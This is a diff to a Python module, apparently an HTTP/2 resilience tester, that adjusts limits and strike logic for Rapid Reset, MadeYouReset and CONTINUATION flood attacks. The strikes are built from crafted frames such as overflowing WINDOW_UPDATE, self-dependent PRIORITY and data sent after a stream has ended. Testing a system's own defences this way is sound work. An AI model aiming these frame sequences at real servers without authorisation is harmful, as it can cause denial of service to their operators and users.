@@ -5,7 +5,7 @@ Rapid reset: CVE-2023-44487; MadeYouReset: CVE-2025-8671; CONTINUATION: CVE-2024
 All are bounded: what they would cost an open mesh is seen long before a host feels it.
 """
 
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 
 from watertight.enforcers.attack.raw_frames import (
     CONTINUATION,
@@ -30,9 +30,12 @@ RESETS = 400
 """A connection; Envoy ends it after 250, servers after 20 to 1,000."""
 RESET_CONNECTIONS = 3
 FRAMES = 2_000
-STALLED_STREAMS = 128
-STALLED_BYTES = 60_000
-"""A stream; to a server that answers with what it was asked, 7 MiB in all."""
+STALLED_STREAMS = 12
+STALLED_BYTES = 400_000
+"""A stream; to a server that answers with what it was asked, 5 MB in all. Above what a proxy keeps
+of one stream before it stops to read it."""
+SHORT_BYTES = 60_000
+MOST_HALF_SAID = 48
 MOST_HALF_OPEN = 600
 """On one connection, where the other side allows so many."""
 SETTLE_SECONDS = 0.3
@@ -74,7 +77,7 @@ async def _reset_midway(aim: Aim) -> None:
 async def _reset_late(aim: Aim) -> None:
     connection = await aim.connection()
     streams = [connection.new_stream() for _ in range(8)]
-    body = aim.body(ballast(STALLED_BYTES))
+    body = aim.body(ballast(SHORT_BYTES))
     await connection.send(
         b"".join(headers(s, aim.fields()) + data(s, body) for s in streams)
         + b"".join(map(reset, streams))
@@ -94,23 +97,32 @@ async def _rapid_reset(aim: Aim) -> None:
 
 def _made_resets() -> Iterator[Strike]:
     """Each makes the server reset the stream, so that no count of the client's resets grows."""
+    yield Strike("a message behind the end", _behind_the_end)
     for what, wrong in {
         "a window that grows by nothing": lambda s: frame(WINDOW_UPDATE, s, bytes(4)),
         "a window that overflows": lambda s: frame(WINDOW_UPDATE, s, b"\x7f\xff\xff\xff"),
         "a stream that depends on itself": lambda s: frame(PRIORITY, s, s.to_bytes(4) + b"\x10"),
-        "a message behind the end": lambda s: frame(DATA, s, b"x", END_STREAM),
     }.items():
 
-        async def play(aim: Aim, wrong=wrong) -> None:  # type: ignore[no-untyped-def]
+        async def play(aim: Aim, wrong: Callable[[int], bytes] = wrong) -> None:
             connection = await aim.connection()
-            said = b""
-            for _ in range(RESETS // 2):
-                stream = connection.new_stream()
-                said += headers(stream, aim.fields(), end=True) + wrong(stream)
-            await connection.send(said)
+            streams = [connection.new_stream() for _ in range(RESETS // 2)]
+            await connection.send(b"".join(headers(s, aim.fields()) for s in streams))
+            await connection.listen(SETTLE_SECONDS, lambda: False)
+            await connection.send(b"".join(map(wrong, streams)))
             await connection.listen(SETTLE_SECONDS / 3, lambda: False)
 
         yield Strike(what, play)
+
+
+async def _behind_the_end(aim: Aim) -> None:
+    connection = await aim.connection()
+    said = b""
+    for _ in range(RESETS // 2):
+        stream = connection.new_stream()
+        said += headers(stream, aim.fields(), end=True) + frame(DATA, stream, b"x", END_STREAM)
+    await connection.send(said)
+    await connection.listen(SETTLE_SECONDS / 3, lambda: False)
 
 
 async def _half_open(aim: Aim) -> None:
@@ -124,9 +136,9 @@ async def _half_open(aim: Aim) -> None:
 
 async def _half_messages(aim: Aim) -> None:
     connection = await aim.connection()
-    body = aim.body(ballast(STALLED_BYTES))[: STALLED_BYTES // 2]
+    body = aim.body(ballast(SHORT_BYTES))[: SHORT_BYTES // 2]
     said = b""
-    for _ in range(min(connection.most_streams, STALLED_STREAMS)):
+    for _ in range(min(connection.most_streams, MOST_HALF_SAID)):
         stream = connection.new_stream()
         said += headers(stream, aim.fields()) + data(stream, body, end=False)
     await connection.send(said)
@@ -167,7 +179,7 @@ def _continuations() -> Iterator[Strike]:
             await connection.send(said + frame(CONTINUATION, stream, part) * count)
             await connection.listen(SETTLE_SECONDS, lambda: False)
 
-        yield Strike(what, play, frames_only=True)
+        yield Strike(what, play)
 
 
 def _control_frames() -> Iterator[Strike]:
@@ -184,7 +196,7 @@ def _control_frames() -> Iterator[Strike]:
             connection = await aim.connection(reads=False)
             await connection.send(headers(connection.new_stream(), aim.fields()) + one * FRAMES)
 
-        yield Strike(f"{FRAMES} {what}, and nothing read", play, frames_only=True)
+        yield Strike(f"{FRAMES} {what}, and nothing read", play)
 
 
 def _leaving() -> Iterator[Strike]:
@@ -204,4 +216,4 @@ def _leaving() -> Iterator[Strike]:
             await connection.send(said + angry * count)
             await connection.listen(SETTLE_SECONDS, lambda: False)
 
-        yield Strike(what, play, frames_only=True)
+        yield Strike(what, play)
